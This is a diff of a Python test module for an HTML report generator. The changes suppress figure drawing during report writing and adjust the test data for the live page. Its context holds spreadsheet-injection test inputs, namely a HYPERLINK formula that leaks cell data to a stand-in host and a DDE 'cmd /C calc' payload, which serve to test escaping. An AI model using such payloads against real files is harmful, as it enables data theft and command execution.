@@ -15,6 +15,7 @@ from cytoforge.report.run import write_report
 from cytoforge.split.region import Region
 from cytoforge.split.regions_file import read_regions, write_regions
 from tests.report import made_up
+from tests.report.figures import nothing_drawn
 
 FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "'=1"]
 MARKUP = [
@@ -75,7 +76,8 @@ class Elements(HTMLParser):
 
 def page_of(folder: Path, title: str) -> str:
     results = made_up.made_up_results(folder)
-    write_report(results, made_up.made_up_config(title), results / "report" / "index.html")
+    with nothing_drawn():  # what figures show of names is tested beside them
+        write_report(results, made_up.made_up_config(title), results / "report" / "index.html")
     return (results / "report" / "index.html").read_text(encoding="utf-8")
 
 
@@ -101,9 +103,9 @@ def test_markup_in_the_title_channels_and_groups_is_shown_not_run(
 @pytest.mark.parametrize("text", MARKUP)
 def test_markup_on_the_live_page_is_shown_not_run(text: str):
     facts = [(text, text)]
-    block = {"name": text, "status": "running", "share": None, "facts": facts, "charts": []}
+    block = {"name": text, "status": "running", "percent": None, "facts": facts}
     values = {"every_s": None, "running": 0, "written": text, "has_report": False}
-    page = render({**values, "blocks": [{**block, "sheet": None}]}, "live.html.j2")
+    page = render({**values, "blocks": [{**block, "sheet": None, "figure": None}]}, "live.html.j2")
     assert text not in page
 
 
